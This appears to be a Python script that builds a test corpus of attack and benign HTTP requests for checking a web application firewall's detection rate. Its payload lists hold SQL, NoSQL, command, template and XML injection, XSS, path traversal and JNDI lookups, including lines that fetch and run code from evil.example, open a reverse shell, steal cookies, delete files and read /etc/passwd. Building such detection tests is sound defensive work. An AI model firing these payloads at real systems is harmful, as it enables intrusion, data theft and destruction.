#!/usr/bin/env python3
"""Generates corpus.jsonl: attack and legitimate requests for the waf
guard's detection-quality test. Rerun after editing the payload lists:
    python3 gen_corpus.py > corpus.jsonl
"""
import base64, json, urllib.parse as up
from xml.sax.saxutils import escape

A = {
 "sqli": ["' OR 1=1--", "' OR '1'='1", "1' UNION SELECT username, password_hash FROM users--",
          "admin'--", "1; DROP TABLE users--", "' AND SLEEP(5)--", "1 AND 1=CONVERT(int,(SELECT @@version))",
          "'; EXEC xp_cmdshell('dir')--", "' UNION ALL SELECT NULL,NULL,table_name FROM information_schema.tables--",
          "1' AND extractvalue(1,concat(0x7e,(select database())))--", "\") OR (\"a\"=\"a", "' WAITFOR DELAY '0:0:5'--",
          "1 UN/**/ION SEL/**/ECT password FROM users", "1' oR 1=1#", "'; SELECT pg_sleep(5)--"],
 "nosqli": [{"$ne": None}, {"$gt": ""}, {"$where": "sleep(1000)"}, {"$regex": ".*"}, {"$where": "this.password.match(/.*/)"},
            {"$nin": ["x"]}, "'; return db.users.find(); var a='", "{\"$where\": \"this.credits == this.debits\"}"],
 "xss": ["<script>alert(1)</script>", "<img src=x onerror=alert(document.cookie)>", "<svg onload=alert(1)>",
         "javascript:alert(1)", "\"><script>fetch('//evil.example/'+document.cookie)</script>", "<iframe src=javascript:alert(1)>",
         "<body onload=alert('x')>", "<a href=\"javascript:void(0)\" onclick=\"alert(1)\">x</a>", "<details open ontoggle=alert(1)>",
         "';alert(String.fromCharCode(88,83,83))//", "<ScRiPt>alert(1)</sCrIpT>", "<svg/onload=alert(1)>",
         "＜script＞alert(1)＜/script＞", "<a href=\"&#106;avascript:alert(1)\">x</a>"],
 "cmdi": ["; cat /etc/passwd", "| id", "`whoami`", "$(curl http://evil.example/x.sh | sh)", "&& ping -c 10 127.0.0.1",
          "; rm -rf / --no-preserve-root", "|| nc -e /bin/sh evil.example 4444", "; wget http://evil.example/a -O /tmp/a; chmod +x /tmp/a",
          ";/bin/cat${IFS}/etc/passwd", "127.0.0.1;ls -la"],
 "traversal": ["../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "....//....//etc/shadow", "/var/www/../../etc/passwd",
               "..%2f..%2f..%2fetc%2fpasswd", "file:///etc/passwd", "../../../../proc/self/environ",
               "..;/..;/etc/passwd", "..%252f..%252fetc%252fpasswd"],
 "ssti": ["{{7*7}}", "${7*7}", "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}", "<%= system('id') %>",
          "{{''.__class__.__mro__[1].__subclasses__()}}", "#{7*7}", "${T(java.lang.Runtime).getRuntime().exec('id')}",
          "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}", "*{7*7}", "${{7*7}}"],
 "ldap": ["*)(uid=*))(|(uid=*", "admin)(&(password=*))", "*)(|(objectClass=*)", "x)(|(cn=*))", "*(|(mail=*))"],
 "crlf": ["foo\r\nSet-Cookie: session=evil", "x\r\nLocation: http://evil.example", "%0d%0aSet-Cookie:%20a=b",
          "a\r\n\r\n<html>injected</html>", "x\nX-Injected: 1"],
 "jndi": ["${jndi:ldap://evil.example/a}", "${jndi:rmi://evil.example:1099/x}", "${${lower:j}ndi:ldap://evil.example/a}",
          "${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example/z}", "${jndi:dns://evil.example/q}",
          "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil.example/a}"],
}

B = ["Dinner with Anna", "O'Brien's birthday present", "Rent for March", "Don't forget: it's Sam's turn",
     "Please select the best option from the menu", "Drop me a line when you're back", "Union dues, 2024",
     "Insert coin refund", "Update on the order from last week", "Delete me from the list please",
     "alice@example.com", "bob.smith+bank@mail.example.org", "Café au lait", "Straße 12, München",
     "Привет, это за обед", "東京での夕食代", "مرحبا بالعالم", "Ελληνικά γράμματα", "शुभकामनाएं",
     "**Rent** for _March_ (see [invoice](https://example.com/inv/42))", "# Title\n\n- item one\n- item two",
     "Use `go test ./...` to run the tests", "Call me at +44 20 7946 0958", "50% off, 2 for 1!",
     "Ref: INV-2024-000123", "Q3 report: revenue up 12%", "Flight LH 1234 (FRA -> JFK)", "I'm 100% sure it's fine",
     "Tom & Jerry's cheese shop", "Payment #42 for order 1337", "C'est la vie", "Rock 'n' roll tickets",
     "He said \"thanks\" and left", "Meeting @ 10:30, room 2", "Split 3 ways: 12.50 each", "See you at 5 o'clock",
     "The select committee met on Friday", "Where is the table from IKEA?", "Order by Friday, or else!",
     "Gift for Zoë and Chloé", "Room 101; floor 3", "x = y + z", "Temperature 21°C", "It's 3/4 done",
     "Lunch (sandwich + coffee)", "email me: jane_doe@example.net", "Kindly refund the overcharge of 9.99 EUR",
     "Happy new year 🎉", "Reservation for 2 at 8pm", "Thanks a lot!!!", "Bill split - 3 people", "Taxi to the airport",
     "Groceries: milk, eggs, bread", "Books: 'Dune' and 'Emma'", "Concert tickets - row 5, seats 3-4",
     "Ski trip deposit", "Gym membership (monthly)", "Coffee beans 1kg", "Plumber - kitchen sink",
     "Birthday cake for Mia", "Parking fine, sorry", "Loan repayment 3 of 12", "Netflix + Spotify",
     "Hotel in Porto, 2 nights", "Wedding gift for Ana & João", "Doctor's appointment co-pay",
     "A markdown list:\n1. one\n2. two", "Code: `if (a < b) { return a; }`", "use the <b>bold</b> tag sparingly",
     "Path is C:/Users/me/Documents", "price > 10 and < 20", "Password reset requested (not by me?)",
     "I'd like to select a new plan", "from 9 to 5 on weekdays", "My name is D'Angelo", "L'Oréal products",
     "Schedule: Mon-Fri 09:00-17:00", "Version 2.3.1-beta", "Key: ABCD-1234-EFGH", "the union of two sets",
     "whatever; anyway", "yes/no", "50/50 split", "sale -- today only", "5 * 3 = 15", "Order #A-77 (urgent)"]
# Realistic path segments, as many as the texts of the other placements:
# identifiers, names, e-mail addresses, dates, versions, slugs and file
# names, as an API's path parameters carry them.
P = ["alice@example.com", "bob.smith+bank@mail.example.org", "jane_doe@example.net", "ops@sub.example.co.uk", "x@y.io",
     "o'brien", "d'angelo", "O'Connor-Smith", "jean-luc", "José", "Zoë", "Straße", "Ånström", "Nguyễn", "Łukasz",
     "東京", "Привет", "محمد", "Ελένη", "राजेश", "김민준", "Dvořák", "Müller", "Renée", "Siobhán",
     "INV-2024-000123", "ORD-77-A", "SKU_55012-XL", "ABCD-1234-EFGH", "550e8400-e29b-41d4-a716-446655440000",
     "01HZX3K8Y5Q9W2N4M6P7R8T0VB", "a3f9c2e1", "cus_NffrFeUfNV2Hib", "pi_3MtwBwLkdIwHu7ix28a3tqPa", "1f0c9d2b-7a33-4c1e-9f9a-2b8f6f1d9e4c",
     "100", "42.5", "-17", "0", "9007199254740993",
     "2024-03-31", "2024-03-31T12:00:00Z", "31.03.2024", "v2.3.1-beta", "1.0.0-rc.1+build.5", "2024-Q3", "week-14",
     "my-first-post", "rock-n-roll", "how-to-bake-bread", "2024-annual-report", "hello-world", "the-art-of-war", "top-10-tips",
     "report-q3-2024.pdf", "photo_01.jpg", "avatar.png", "export.csv", "data.json", "notes.txt", "budget.xlsx", "contract_v2.docx",
     "user.name", "first_last", "~alice", "tom&jerry", "R&D", "C++", "C#", "50% off", "a b c", "item #42", "hello world",
     "café", "naïve", "ünïcödé", "en-US", "de_DE", "EUR", "GB29NWBK60161331926819", "+44 20 7946 0958", "main", "beta-2",
     "rc-1", "latest", "stable"]

# Realistic client headers: browsers, mobile apps, SDKs, tools and bots,
# and Referers with queries and fragments.
H = [("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36", "https://www.google.com/"),
     ("Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15", "https://app.example/accounts?tab=history&page=2"),
     ("Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148", "https://app.example/#/transfers/new"),
     ("Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.39 Mobile Safari/537.36", "android-app://com.example.bank/"),
     ("Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0", "https://search.example/?q=bank+transfer+fees&lang=en#results"),
     ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "https://www.example.com/sitemap.xml"),
     ("curl/8.10.1", ""), ("Wget/1.24.5", ""), ("HTTPie/3.2.4", ""), ("PostmanRuntime/7.42.0", "https://web.postman.co/workspace/My-Workspace~1234/request/5678"),
     ("python-requests/2.32.3", ""), ("Go-http-client/2.0", ""), ("okhttp/4.12.0", ""), ("axios/1.7.7", "http://localhost:3000/dashboard"),
     ("node-fetch/1.0 (+https://github.com/bitinn/node-fetch)", ""), ("Java/21.0.5", ""), ("Apache-HttpClient/5.4 (Java/21)", ""),
     ("Dart/3.5 (dart:io)", ""), ("ExampleBank/5.12.0 (iPhone15,2; iOS 18.1; Scale/3.00)", ""), ("ExampleBank/5.12.0 (Android 14; SM-S918B; Build/UP1A.231005.007)", ""),
     ("Stripe/1.0 (+https://stripe.com/docs/webhooks)", ""), ("Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)", ""),
     ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0", "https://login.example.com/oauth2/authorize?client_id=abc&redirect_uri=https%3A%2F%2Fapp.example%2Fcb&state=xyz"),
     ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36", "https://app.example/reports/2024-Q3?sort=-amount&filter[status]=open"),
     ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36", "https://docs.example.com/api/v1#section-2.3"),
     ("grpc-java-netty/1.68.1", ""), ("kube-probe/1.31", ""), ("ELB-HealthChecker/2.0", ""), ("Prometheus/2.55.0", ""), ("Datadog Agent/7.59.0", ""),
     ("Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0", "https://app.example/search?q=O%27Brien%20%26%20Sons"),
     ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/131.0.0.0 Safari/537.36", "about:blank"),
     ("Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.18129; Pro)", ""), ("Zapier", ""), ("insomnia/10.1.1", "")]

out = []
def add(cls, place, enc, attack, method, path, ctype="", body="", headers=None):
    out.append(dict(cls=cls, place=place, enc=enc, attack=attack, method=method, path=path, ctype=ctype, body=body, headers=headers or {}))

def placements(cls, p, attack):
    if isinstance(p, dict):
        add(cls, "json", "raw", attack, "POST", "/api/v1/transfers", "application/json",
            json.dumps({"from_account_id": 101, "to_account_id": 202, "amount": 5, "currency": "EUR", "memo": p}))
        add(cls, "json-nested", "raw", attack, "PATCH", "/api/v1/users/1", "application/json", json.dumps({"display_name": "Al", "prefs": {"filter": p}}))
        k, v = next(iter(p.items()))
        add(cls, "query", "url", attack, "GET", "/api/v1/search?" + up.urlencode({"q[" + k + "]": json.dumps(v) if not isinstance(v, str) else v}))
        add(cls, "form", "url", attack, "POST", "/api/v1/transfers", "application/x-www-form-urlencoded", up.urlencode({"memo[" + k + "]": str(v)}))
        return
    add(cls, "query", "url", attack, "GET", "/api/v1/search?" + up.urlencode({"q": p}))
    add(cls, "json", "raw", attack, "POST", "/api/v1/transfers", "application/json",
        json.dumps({"from_account_id": 101, "to_account_id": 202, "amount": 5, "currency": "EUR", "memo": p}, ensure_ascii=False))
    add(cls, "json-nested", "raw", attack, "PATCH", "/api/v1/users/1", "application/json", json.dumps({"display_name": "Al", "meta": {"notes": [{"text": "ok"}, {"text": p}]}}, ensure_ascii=False))
    add(cls, "form", "url", attack, "POST", "/api/v1/transfers", "application/x-www-form-urlencoded", up.urlencode({"memo": p}))
    add(cls, "xml", "raw", attack, "POST", "/api/v1/transfers", "application/xml", "<transfer><amount>5</amount><memo>" + escape(p) + "</memo></transfer>")
    if "\n" not in p and "\r" not in p and all(ord(c) < 128 for c in p):
        add(cls, "header", "raw", attack, "GET", "/api/v1/accounts", headers={"Referer": "https://app.example/" + up.quote(p, safe="") if attack else "https://app.example/home", "User-Agent": p if attack else "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"})
    if attack:
        add(cls, "path", "url", attack, "GET", "/api/v1/accounts/" + up.quote(p, safe=""))
    # The encodings, for legitimate text too: a decoder that turns benign
    # text into an attack is a false positive.
    if True:
        add(cls, "query", "double-url", attack, "GET", "/api/v1/search?q=" + up.quote(up.quote(p, safe=""), safe=""))
        add(cls, "json", "unicode-escape", attack, "POST", "/api/v1/transfers", "application/json",
            json.dumps({"from_account_id": 101, "to_account_id": 202, "amount": 5, "currency": "EUR", "memo": p}, ensure_ascii=True).replace("'", "\\u0027").replace("<", "\\u003c").replace("(", "\\u0028"))
        add(cls, "json", "base64", attack, "POST", "/api/v1/transfers", "application/json",
            json.dumps({"from_account_id": 101, "to_account_id": 202, "amount": 5, "currency": "EUR", "memo": base64.b64encode(p.encode()).decode()}))

for cls, ps in A.items():
    for p in ps:
        placements(cls, p, True)
xxe = ['<?xml version="1.0"?><!DOCTYPE t [<!ENTITY x SYSTEM "file:///etc/passwd">]><transfer><memo>&x;</memo></transfer>',
       '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]><transfer><memo>&lol2;</memo></transfer>',
       '<!DOCTYPE t SYSTEM "http://evil.example/x.dtd"><transfer/>',
       '<?xml version="1.0"?><!doctype t [<!entity % p SYSTEM "http://evil.example/p.dtd"> %p;]><transfer/>',
       '<?xml version="1.0"?><transfer><memo>&xxe;</memo></transfer>']
for p in xxe:
    add("xxe", "xml", "raw", True, "POST", "/api/v1/transfers", "application/xml", p)
    add("xxe", "xml", "soap", True, "POST", "/api/v1/transfers", "text/xml", p)
for p in B:
    placements("benign", p, False)
for p in P:
    add("benign", "path", "url", False, "GET", "/api/v1/accounts/" + up.quote(p, safe=""))
for ua, ref in H:
    add("benign", "header", "raw", False, "GET", "/api/v1/accounts", headers={"User-Agent": ua, "Referer": ref} if ref else {"User-Agent": ua})
for line in out:
    print(json.dumps(line, ensure_ascii=False))
